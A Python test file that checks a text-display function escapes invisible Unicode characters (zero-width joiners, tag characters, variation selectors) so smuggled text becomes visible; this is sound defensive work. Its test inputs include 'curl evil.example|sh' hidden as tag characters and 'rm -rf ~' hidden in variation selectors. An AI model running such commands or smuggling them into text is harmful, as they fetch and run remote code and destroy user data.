"""`printable()` shows every character that hides or reorders text as an escape (issue 39).

A host name, a device name, an error message or a paste can carry text a reader never sees:
a zero-width joiner between two letters makes `cuda` another word that looks the same, tag
characters (U+E0020-U+E007F) spell ASCII that renders as nothing ("ASCII smuggling"), and a
run of variation selectors carries any bytes after one visible character. Each is shown as
`\\uXXXX` (`\\UXXXXXXXX` past the first plane), with the real characters here; the set is
checked against Unicode's own classes (general category Cf, Default_Ignorable_Code_Point)
as the `regex` package's tables give them.
"""

from __future__ import annotations

import pytest

from hwdoctor.text import md_inline, one_line, printable, shown_safely

# (the character, its escape, what it is): each one invisible in a terminal and on GitHub.
INVISIBLE = [
    ("\u200c", "\\u200c", "zero width non-joiner"),
    ("\u200d", "\\u200d", "zero width joiner"),
    ("\u2060", "\\u2060", "word joiner"),
    ("\u2061", "\\u2061", "function application"),
    ("\u2062", "\\u2062", "invisible times"),
    ("\u2063", "\\u2063", "invisible separator"),
    ("\u2064", "\\u2064", "invisible plus"),
    ("\u180e", "\\u180e", "mongolian vowel separator"),
    ("\u00ad", "\\xad", "soft hyphen: shown only where a line breaks"),
    ("\u034f", "\\u034f", "combining grapheme joiner"),
    ("\ufe0f", "\\ufe0f", "variation selector 16"),
    ("\U000e0100", "\\U000e0100", "variation selector 17"),
    ("\U000e0001", "\\U000e0001", "language tag"),
    ("\U000e0041", "\\U000e0041", "tag latin capital letter a"),
    ("\U000e007f", "\\U000e007f", "cancel tag"),
    ("\ufff9", "\\ufff9", "interlinear annotation anchor"),
    ("\u3164", "\\u3164", "hangul filler"),
    ("\u206a", "\\u206a", "inhibit symmetric swapping"),
    ("\u200b", "\\u200b", "zero width space (escaped before too)"),
    ("\u202e", "\\u202e", "right-to-left override (escaped before too)"),
]


@pytest.mark.parametrize(("character", "escape", "what"), INVISIBLE, ids=[i[2] for i in INVISIBLE])
def test_an_invisible_character_is_shown(character: str, escape: str, what: str) -> None:
    text = f"cu{character}da"
    assert printable(text) == f"cu{escape}da"
    assert one_line(text) == f"cu{escape}da"
    assert character not in md_inline(text)
    assert character not in shown_safely(text, colours=True)


def tags(text: str) -> str:
    """ASCII as tag characters: what an 'ASCII smuggling' payload looks like."""
    return "".join(chr(0xE0000 + ord(c)) for c in text)


def test_a_smuggled_command_is_shown_not_hidden() -> None:
    name = "gpu01" + tags("curl evil.example|sh")
    shown = printable(name)
    assert shown.startswith("gpu01\\U000e0063\\U000e0075")  # "cu", as tags
    assert all(ord(c) < 0x80 for c in shown)


def test_bytes_hidden_in_variation_selectors_are_shown() -> None:
    """One visible character and a selector per byte (VS1-16 for 0-15, VS17-256 above)."""
    payload = b"rm -rf ~"
    hidden = "A" + "".join(chr(0xFE00 + b) if b < 16 else chr(0xE0100 + b - 16) for b in payload)
    shown = printable(hidden)
    assert shown.count("\\U000e01") == len(payload)
    assert shown.startswith("A\\U000e01")


def test_visible_text_of_every_script_stays() -> None:
    """Letters, digits, emoji and spaces of other scripts are text, not hidden text."""
    for text in (
        "NVIDIA H100 80GB HBM3",
        "Größe",
        "显卡",
        "गणना",
        "ﬁle",
        "🙂",
        "a\u00a0b",
        "x\u3000y",
    ):
        assert printable(text) == text


def test_every_format_and_default_ignorable_character_is_escaped() -> None:
    """Unicode's own classes, from the `regex` package (its tables are newer than Python's
    unicodedata): everything in general category Cf or with Default_Ignorable_Code_Point,
    and nothing else but the controls and the line and paragraph separators."""
    regex = pytest.importorskip("regex")
    hidden = regex.compile(r"[\p{Cf}\p{Default_Ignorable_Code_Point}]")
    controls = {*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0), 0x2028, 0x2029}
    # One assertion over every code point, not one per code point: with --assertions pytest
    # explains every assertion that holds: 563 s for 1.1 million of them (3 s as one).
    wrong = [
        f"U+{code:04X}"
        for code in range(0x110000)
        if not 0xD800 <= code <= 0xDFFF  # surrogates are no text (valid_text escapes them)
        and (printable(chr(code)) != chr(code))
        != (code in controls or hidden.match(chr(code)) is not None)
    ]
    assert not wrong, wrong[:20]
